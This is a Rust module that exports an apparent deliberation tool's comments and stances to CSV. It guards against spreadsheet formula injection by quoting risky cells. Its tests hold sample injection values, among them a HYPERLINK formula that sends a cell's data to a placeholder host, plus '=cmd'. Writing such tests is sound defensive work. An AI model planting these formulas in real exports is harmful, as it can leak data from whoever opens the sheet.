//! A response as a table: one row per comment and one per stance, for
//! spreadsheets and opinion-analysis tools (`export --format csv`).
//!
//! The rows are a pure function of the response view, so every member who
//! holds the same record exports the same table. The columns are part of the
//! command-line contract and are documented in docs/schema.md; add columns
//! at the end, never rename or reorder them.

use serde::Serialize;

use super::views::ResponseView;
use crate::clock::rfc3339;

/// The column names, in order.
pub const COLUMNS: [&str; 18] = [
    "kind",
    "response",
    "thread",
    "thread_title",
    "draft",
    "draft_title",
    "id",
    "reply_to",
    "member_id",
    "member",
    "stance",
    "stale",
    "text",
    "words",
    "at",
    "recorded_by",
    "confirmed",
    "correction",
];

/// One comment or one stance.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Row {
    /// `comment` or `stance`.
    pub kind: &'static str,
    /// The response id.
    pub response: String,
    /// The thread (comments only).
    pub thread: String,
    /// The thread's title (comments only).
    pub thread_title: String,
    /// The draft (stances only).
    pub draft: String,
    /// The draft's title (stances only).
    pub draft_title: String,
    /// The comment id (comments only).
    pub id: String,
    /// The comment answered, if any.
    pub reply_to: String,
    /// The author's member id (hex).
    pub member_id: String,
    /// The author's display name.
    pub member: String,
    /// support | reservations | stand-aside | object | abstain (stances only).
    pub stance: String,
    /// `true` if the stance was taken on an older version of the draft.
    pub stale: String,
    /// The comment, or the stance's reason.
    pub text: String,
    /// Words in `text`.
    pub words: usize,
    /// When, RFC 3339 in UTC.
    pub at: String,
    /// The facilitator who recorded it on the member's behalf, if one did.
    pub recorded_by: String,
    /// `true` once the member confirmed a recorded comment (comments only).
    pub confirmed: String,
    /// The member's own correction of a recorded comment.
    pub correction: String,
}

fn name_of(member: Option<&super::views::MemberRef>) -> String {
    member.map(|m| m.name.clone()).unwrap_or_default()
}

/// Every comment (thread by thread, in order) then every stance (draft by
/// draft) of a response.
pub fn rows(view: &ResponseView) -> Vec<Row> {
    let mut rows = Vec::new();
    for thread in &view.threads {
        for comment in &thread.comments {
            rows.push(Row {
                kind: "comment",
                response: view.id.clone(),
                thread: thread.id.clone(),
                thread_title: thread.title.clone(),
                draft: String::new(),
                draft_title: String::new(),
                id: comment.id.clone(),
                reply_to: comment.reply_to.clone().unwrap_or_default(),
                member_id: comment.author.to_hex(),
                member: comment.author_name.clone(),
                stance: String::new(),
                stale: String::new(),
                text: comment.body.clone(),
                words: comment.body.split_whitespace().count(),
                at: rfc3339(comment.at),
                recorded_by: name_of(comment.recorded_by.as_ref()),
                confirmed: match comment.recorded_by {
                    Some(_) => comment.confirmed.to_string(),
                    None => String::new(),
                },
                correction: comment.correction.clone().unwrap_or_default(),
            });
        }
    }
    for draft in &view.drafts {
        for stance in &draft.stances {
            let text = stance.reason.clone().unwrap_or_default();
            rows.push(Row {
                kind: "stance",
                response: view.id.clone(),
                thread: String::new(),
                thread_title: String::new(),
                draft: draft.id.clone(),
                draft_title: draft.title.clone(),
                id: String::new(),
                reply_to: String::new(),
                member_id: stance.member.to_hex(),
                member: stance.name.clone(),
                stance: stance.stance.as_str().to_string(),
                stale: stance.stale.to_string(),
                words: text.split_whitespace().count(),
                text,
                at: rfc3339(stance.at),
                recorded_by: name_of(stance.recorded_by.as_ref()),
                confirmed: String::new(),
                correction: String::new(),
            });
        }
    }
    rows
}

/// The rows as CSV (RFC 4180: a header line, fields quoted when they hold
/// a comma, a quote or a line break, CRLF-free `\n` line ends).
pub fn to_csv(rows: &[Row]) -> Result<String, String> {
    let mut writer = csv::WriterBuilder::new()
        .has_headers(true)
        .from_writer(Vec::new());
    if rows.is_empty() {
        writer.write_record(COLUMNS).map_err(|e| e.to_string())?;
    }
    for row in rows {
        writer
            .serialize(spreadsheet_safe(row))
            .map_err(|e| e.to_string())?;
    }
    let bytes = writer.into_inner().map_err(|e| e.to_string())?;
    String::from_utf8(bytes).map_err(|e| e.to_string())
}

/// A row whose free-text cells cannot run as spreadsheet formulas.
///
/// Any member writes comment text, reasons, titles and their own display
/// name (and a modified client could write any id); a spreadsheet that opens the table runs a cell starting with `=`,
/// `+`, `-`, `@`, a tab or a carriage return as a formula (which can fetch
/// a web address carrying the sheet's data). Such a cell gets a leading
/// `'`, which spreadsheets read as "this is text" (the OWASP advice). The
/// JSON export and `community export-doc` keep the exact text.
fn spreadsheet_safe(row: &Row) -> Row {
    let mut row = row.clone();
    // Every column: ids and names are map keys and values that a modified
    // client could spell as a formula too.
    for cell in [
        &mut row.response,
        &mut row.thread,
        &mut row.thread_title,
        &mut row.draft,
        &mut row.draft_title,
        &mut row.id,
        &mut row.reply_to,
        &mut row.member_id,
        &mut row.member,
        &mut row.stance,
        &mut row.stale,
        &mut row.text,
        &mut row.at,
        &mut row.recorded_by,
        &mut row.confirmed,
        &mut row.correction,
    ] {
        if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            cell.insert(0, '\'');
        }
    }
    row
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_header_is_the_documented_columns_and_fields_are_quoted() {
        let row = Row {
            kind: "comment",
            response: "r1".into(),
            thread: "t1".into(),
            thread_title: "Views, first".into(),
            draft: String::new(),
            draft_title: String::new(),
            id: "c1".into(),
            reply_to: String::new(),
            member_id: "ab".into(),
            member: "Ana".into(),
            stance: String::new(),
            stale: String::new(),
            text: "We \"agree\",\nmostly.".into(),
            words: 2,
            at: "2026-11-29T10:00:00Z".into(),
            recorded_by: String::new(),
            confirmed: String::new(),
            correction: String::new(),
        };
        let csv = to_csv(&[row]).unwrap_or_else(|e| panic!("{e}"));
        let mut lines = csv.lines();
        assert_eq!(lines.next(), Some(COLUMNS.join(",").as_str()));
        assert!(csv.contains("\"Views, first\""));
        assert!(csv.contains("\"We \"\"agree\"\",\nmostly.\""));
        assert_eq!(to_csv(&[]).unwrap_or_default(), COLUMNS.join(",") + "\n");
    }

    #[test]
    fn free_text_never_runs_as_a_spreadsheet_formula() {
        let row = |text: &str, member: &str| Row {
            kind: "comment",
            response: "r1".into(),
            thread: "t1".into(),
            thread_title: "=1+1".into(),
            draft: String::new(),
            draft_title: String::new(),
            id: "c1".into(),
            reply_to: String::new(),
            member_id: "ab".into(),
            member: member.into(),
            stance: String::new(),
            stale: String::new(),
            text: text.into(),
            words: 1,
            at: "2026-11-29T10:00:00Z".into(),
            recorded_by: String::new(),
            confirmed: String::new(),
            correction: "@SUM(A1)".into(),
        };
        let rows = [
            row("=HYPERLINK(\"http://x/?\"&A1)", "+Ana"),
            row("-2+3", "@bo"),
            Row {
                reply_to: "=cmd".into(),
                ..row("x", "Bo")
            },
            row("\tx", "Cy"),
            row("Plain, with = inside", "Di"),
        ];
        let csv = to_csv(&rows).unwrap_or_else(|e| panic!("{e}"));
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let read: Vec<csv::StringRecord> = reader.records().filter_map(Result::ok).collect();
        assert_eq!(read.len(), 5);
        let cell = |r: usize, c: &str| {
            let i = COLUMNS.iter().position(|x| *x == c).unwrap_or(0);
            read[r].get(i).unwrap_or("").to_string()
        };
        assert_eq!(cell(0, "text"), "'=HYPERLINK(\"http://x/?\"&A1)");
        assert_eq!(cell(0, "member"), "'+Ana");
        assert_eq!(cell(0, "thread_title"), "'=1+1");
        assert_eq!(cell(0, "correction"), "'@SUM(A1)");
        assert_eq!(cell(1, "text"), "'-2+3");
        assert_eq!(cell(1, "member"), "'@bo");
        assert_eq!(cell(2, "reply_to"), "'=cmd");
        assert_eq!(cell(3, "text"), "'\tx");
        assert_eq!(cell(4, "text"), "Plain, with = inside");
        assert_eq!(cell(4, "member"), "Di");
        // Ids, times and counts are never touched.
        assert_eq!(cell(0, "at"), "2026-11-29T10:00:00Z");
    }
}
